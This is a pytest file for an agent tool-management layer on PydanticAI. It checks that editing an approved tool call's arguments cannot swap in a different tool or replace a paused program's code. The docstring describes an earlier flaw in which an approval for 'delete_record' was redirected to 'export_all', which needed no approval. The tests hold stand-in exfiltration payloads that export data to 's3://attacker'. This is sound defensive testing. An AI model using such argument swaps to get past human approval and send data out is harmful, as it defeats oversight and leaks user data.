"""An edit changes a call's arguments, never its tool (issue 40, item 3): through PydanticAI,
``ToolApproved(override_args={"tool_name": "export_all", ...})`` on an approval asked for
``delete_record`` ran ``export_all`` (a tool that needs no approval, so nobody was asked), and
an edit of a paused program's ``run_code`` call could replace the program."""

from __future__ import annotations

from collections import Counter
from typing import Any

import pytest

pytest.importorskip("pydantic_ai")
pytest.importorskip("pydantic_monty")

from pydantic_ai import Agent  # noqa: E402
from pydantic_ai.messages import ModelMessage, ModelResponse, TextPart, ToolCallPart  # noqa: E402
from pydantic_ai.models.function import AgentInfo, FunctionModel  # noqa: E402
from pydantic_ai.tools import DeferredToolRequests, DeferredToolResults, ToolApproved  # noqa: E402
from support.programs import program_manager  # noqa: E402
from toolmgmt_pydantic_ai import ManagedToolset  # noqa: E402

from toolmgmt_core import Discovery  # noqa: E402


def _agent(runs: Counter[str], mode: str, call: ToolCallPart) -> Agent[Any, Any]:
    manager = program_manager(runs, mode=mode, discovery=Discovery(call_unloaded="load"))

    def model(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        return ModelResponse(parts=[call] if len(messages) == 1 else [TextPart("done")])

    return Agent(
        FunctionModel(model),
        toolsets=[ManagedToolset(manager)],
        output_type=[str, DeferredToolRequests],
    )


def _resume(agent: Agent[Any, Any], paused: Any, override: dict[str, Any]) -> Any:
    return agent.run_sync(
        message_history=paused.all_messages(),
        deferred_tool_results=DeferredToolResults(
            approvals={"c1": ToolApproved(override_args=override)}
        ),
    )


def _returned(run: Any) -> str:
    return " ".join(
        str(p.content)
        for m in run.all_messages()
        for p in getattr(m, "parts", ())
        if getattr(p, "tool_call_id", None) == "c1" and getattr(p, "part_kind", "") != "tool-call"
    )


def test_an_edit_naming_another_tool_through_call_tool_is_refused_and_nothing_runs() -> None:
    runs: Counter[str] = Counter()
    call = ToolCallPart(
        "call_tool", {"tool_name": "delete_record", "arguments": {"key": "k1"}}, "c1"
    )
    agent = _agent(runs, "search", call)
    paused = agent.run_sync("delete k1")
    assert isinstance(paused.output, DeferredToolRequests)
    swap = {"tool_name": "export_all", "arguments": {"target": "s3://attacker"}}
    resumed = _resume(agent, paused, swap)
    assert runs == Counter()
    assert "never its tool" in _returned(resumed)


def test_an_edit_of_a_paused_program_cannot_replace_the_program() -> None:
    runs: Counter[str] = Counter()
    call = ToolCallPart("run_code", {"code": "print(await delete_record(key='k1'))"}, "c1")
    agent = _agent(runs, "code", call)
    paused = agent.run_sync("delete k1")
    assert isinstance(paused.output, DeferredToolRequests)
    assert paused.output.metadata["c1"]["tool_name"] == "delete_record"
    other = {"code": "print(await export_all(target='s3://attacker'))"}
    resumed = _resume(agent, paused, other)
    assert runs == Counter()
    assert "paused running another program" in _returned(resumed)
